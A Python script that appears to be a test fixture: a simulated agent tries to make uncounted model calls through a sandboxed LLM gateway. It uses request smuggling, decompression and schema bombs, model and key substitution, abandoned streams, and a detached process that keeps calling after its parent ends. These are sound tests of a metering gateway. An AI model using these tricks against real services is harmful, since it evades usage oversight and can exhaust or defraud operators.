"""An agent that tries to make calls nobody counts, one trick a name; and an honest one. Runs inside the sandbox."""

from __future__ import annotations

import gzip
import http.client
import json
import os
import signal
import socket
import sys
import threading
import time
from contextlib import suppress
from urllib.parse import urlsplit

URL, KEY, NAME, PROTOCOL = sys.argv[1:5]
PLACE = urlsplit(URL)
HEADERS = {"Authorization": f"Bearer {KEY}", "Content-Type": "application/json", "X-Agent": NAME}
TURN = {"role": "user", "content": "Say hello."}
CALL = {"model": "m", "messages": [TURN], "max_tokens": 60}
PATHS = {"openai": "/v1/chat/completions", "responses": "/v1/responses", "anthropic": "/v1/messages"}
BODIES = {
    "openai": CALL,
    "anthropic": CALL,
    "responses": {"model": "m", "input": [TURN], "max_output_tokens": 60},
    "gemini": {"contents": [{"role": "user", "parts": [{"text": "Hi"}]}], "generationConfig": {"maxOutputTokens": 60}},
}


def connected() -> http.client.HTTPConnection:
    return http.client.HTTPConnection(PLACE.hostname or "", PLACE.port, timeout=60)


def path_of(*, stream: bool = False, model: str = "m") -> str:
    if PROTOCOL != "gemini":
        return PATHS[PROTOCOL]
    return f"/v1beta/models/{model}:" + ("streamGenerateContent?alt=sse" if stream else "generateContent")


def body_of(*, stream: bool = False, **more: object) -> bytes:
    streamed = {"stream": True} if stream and PROTOCOL != "gemini" else {}
    return json.dumps({**BODIES[PROTOCOL], **streamed, **more}).encode()


def begin(
    body: bytes, path: str | None = None, method: str = "POST", **headers: str
) -> tuple[http.client.HTTPConnection, http.client.HTTPResponse]:
    connection = connected()
    own = {name.replace("_", "-"): value for name, value in headers.items()}
    connection.request(method, path or path_of(), body, {**HEADERS, **own})
    return connection, connection.getresponse()


def ask(body: bytes | None = None, path: str | None = None, method: str = "POST", **headers: str) -> int:
    """One request, to its end."""
    connection, answer = begin(body_of() if body is None else body, path, method, **headers)
    answer.read()
    connection.close()
    return answer.status


def raw(*pieces: bytes, wait: float = 0.0) -> bytes:
    """What the gateway says to bytes of our own."""
    opened = socket.create_connection((PLACE.hostname or "", PLACE.port or 0), timeout=10)
    with suppress(OSError), opened:
        for piece in pieces:
            opened.sendall(piece)
        if wait:
            time.sleep(wait)
            return b""
        opened.shutdown(socket.SHUT_WR)
        return opened.recv(1 << 16)
    return b""


def head(line: str = f"POST {path_of()} HTTP/1.1", *more: str) -> bytes:
    lines = [line, "Host: x", *(f"{name}: {value}" for name, value in HEADERS.items()), *more, "", ""]
    return "\r\n".join(lines).encode()


def whole(body: bytes) -> bytes:
    return head(f"POST {path_of()} HTTP/1.1", f"Content-Length: {len(body)}") + body


def tool(schema: str) -> bytes:
    tools = f'[{{"type":"function","function":{{"name":"t","parameters":{schema}}}}}]'
    return (json.dumps(CALL)[:-1] + ', "tools": ' + tools + "}").encode()


def together(count: int, **more: object) -> None:
    calls = [threading.Thread(target=ask, args=(body_of(**more),)) for _ in range(count)]
    for call in calls:
        call.start()
    for call in calls:
        call.join()


# -- tricks


def nested() -> None:
    """Schemas so deep that whoever reads them gives up."""
    for depth in (20, 300, 967, 5000):
        ask(tool('{"items":' * depth + "{}" + "}" * depth))


def quitter() -> None:
    """Streams that are left in the middle, in the responses API."""
    for _ in range(3):
        connection, answer = begin(body_of(stream=True))
        answer.read1(10)
        connection.sock.close() if connection.sock else answer.close()
        connection.close()


def suicide() -> None:
    """A death in the middle of a stream of messages."""
    _, answer = begin(body_of(stream=True))
    answer.read1(10)
    os.kill(os.getpid(), signal.SIGTERM)
    time.sleep(60)


def early() -> None:
    """Calls of two choices each that are left before their answer begins, or never finished at all."""
    held = [socket.create_connection((PLACE.hostname or "", PLACE.port or 0)) for _ in range(4)]
    for one in held[:3]:
        one.sendall(whole(body_of(n=2)))
    held[3].sendall(whole(body_of())[:-1])
    time.sleep(0.3)
    for one in held:
        one.close()


def stranger() -> None:
    """Another model: by its name, another spelling, a header, a query, a path."""
    for name in ("big", "M", "m-405b", "m:online", "host/m"):
        ask(body_of(model=name))
    ask(X_Model="big", X_Litellm_Model="big", path=f"{path_of()}?model=big&key=mine")
    ask(b'{"contents":[{"parts":[{"text":"x"}]}]}', "/v1beta/models/big:generateContent")
    ask(path="/openai/deployments/big/chat/completions")


def bomb() -> None:
    """References that double, and bodies that unpack to gigabytes."""
    both = {str(n): {"allOf": [{"$ref": f"#/$defs/{n + 1}"}] * 2} for n in range(60)}
    ask(tool(json.dumps({"$defs": {**both, "60": {}}, "$ref": "#/$defs/0"})))
    with suppress(OSError, http.client.HTTPException):
        ask(gzip.compress(b" " * (200 << 20), 1), Content_Encoding="gzip")
    ask(gzip.compress(body_of()), Content_Encoding="gzip")


def twice() -> None:
    """What two servers would read differently."""
    odd = (
        *(b'"model":"big"', b'"Model":"big"', b'"seed":NaN', b'"background":true', b'"service_tier":"priority"'),
        *(b'"N":9', b'"n":"9"', b'"Max_Tokens":9999', b'"stream":"true"', b'"mod\\u0065l":"big"'),
    )
    for one in odd:
        ask(body_of()[:-1] + b"," + one + b"}")
    ask(body_of().decode().encode("utf-16"))
    ask(Content_Type="application/json; charset=utf-7")


def smuggler() -> None:
    """Requests inside of requests, and what is no request at all."""
    body = body_of()
    chunks = f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n"
    length, line = f"Content-Length: {len(body)}", f"POST {path_of()} HTTP/1.1"
    raw(head(line, length, "Content-Length: 5"), body)
    raw(head(line, "Content-Length: 5", "Transfer-Encoding: chunked"), chunks)
    raw(head(line, "X: a\r\n b", length), body)
    raw(head(line, "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", length), body)
    raw(head(f"GET {path_of()} HTTP/1.1", "Connection: Upgrade", "Upgrade: websocket"))
    raw(head("CONNECT 127.0.0.1:80 HTTP/1.1"), whole(body))
    raw(head(f"POST http://127.0.0.1:1{path_of()} HTTP/1.1", length), body, wait=1.0)
    raw(head(line, "Transfer-Encoding: chunked"), chunks, wait=1.0)
    raw(whole(body) * 3, wait=2.5)


def elsewhere() -> None:
    """Everything that a provider offers besides calls of the model; and keys of others."""
    for path in ("embeddings", "batches", "files", "images/generations", "audio/speech", "completions", "realtime"):
        ask(path=f"/v1/{path}")
    ask(path="/v1/messages/count_tokens", anthropic_version="2023-06-01")
    for method in ("PUT", "PATCH", "DELETE", "GET"):
        ask(method=method)
    ask(Authorization="Bearer orvl-0123456789")
    ask(Authorization="Bearer x", X_Api_Key="y")
    ask()


def parallel() -> None:
    """Many calls at once, of Gemini."""
    together(12)


def silent() -> None:
    """Streams that are told not to report their usage."""
    ask(body_of(stream=True, stream_options={"include_usage": False}))
    ask(body_of(stream=True, stream_options=None))
    ask(body_of(stream=True, Stream_Options={}))


def flood() -> None:
    """More than anybody would read."""
    ask(b'{"model":"m","messages":[' + b"[]," * 1_500_000 + b"[]]}")
    ask(b"[" * 3_000_000)
    ask()


def leftover() -> None:
    """A process that calls on when its parent has ended, away from its group and terminal."""
    if os.fork():
        ask()
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(20):
        with suppress(OSError, http.client.HTTPException):
            ask()
    os._exit(0)


def hundreds() -> None:
    """As many calls as connections, each of several choices."""
    together(200, n=3, stream=True)


def honest() -> None:
    for _ in range(3):
        assert ask() == 200
        time.sleep(0.1)
    with open("answer.txt", "w") as file:
        file.write("Hello.")


globals()[NAME.split("-")[0]]()
